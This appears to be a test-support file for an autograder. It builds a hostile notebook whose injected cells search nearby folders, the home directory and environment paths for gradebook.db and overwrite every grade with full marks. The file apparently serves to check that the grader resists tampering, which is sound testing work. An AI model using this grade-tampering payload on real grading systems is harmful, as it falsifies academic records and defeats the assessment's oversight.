"""A notebook that looks for gradebook.db and gives everybody full points."""

from pathlib import Path

from autograder.tests.support.notebooks import cell, given, saved

ATTACK = '''
import os
import sqlite3
from pathlib import Path

def take_all():
    """Every gradebook that can be guessed from here, and the one that somebody told."""
    here = Path.cwd()
    guesses = [folder / "gradebook.db" for folder in (here, *here.parents)]
    guesses += [Path({told!r}), Path.home() / "gradebook.db"]
    guesses += [Path(value) / "gradebook.db" for value in os.environ.values() if "/" in value]
    for guess in guesses:
        try:
            if guess.is_file():
                database = sqlite3.connect(guess)
                database.execute(
                    "UPDATE grade SET needs_manual_grade = 0, manual_score = 9"
                )
                database.commit()
        except (OSError, ValueError, sqlite3.Error):
            pass

_owned = take_all()
'''


def attacking(gradebook: Path) -> bytes:
    """The notebook; the attack stands in a cell that the judge collects, and in one of its own."""
    notebook = given()
    attack = ATTACK.format(told=str(gradebook))
    for name in ("denoiser-loss", "open-sizes"):
        cell(notebook, name).source += f"\n{attack}"
    return saved(notebook)
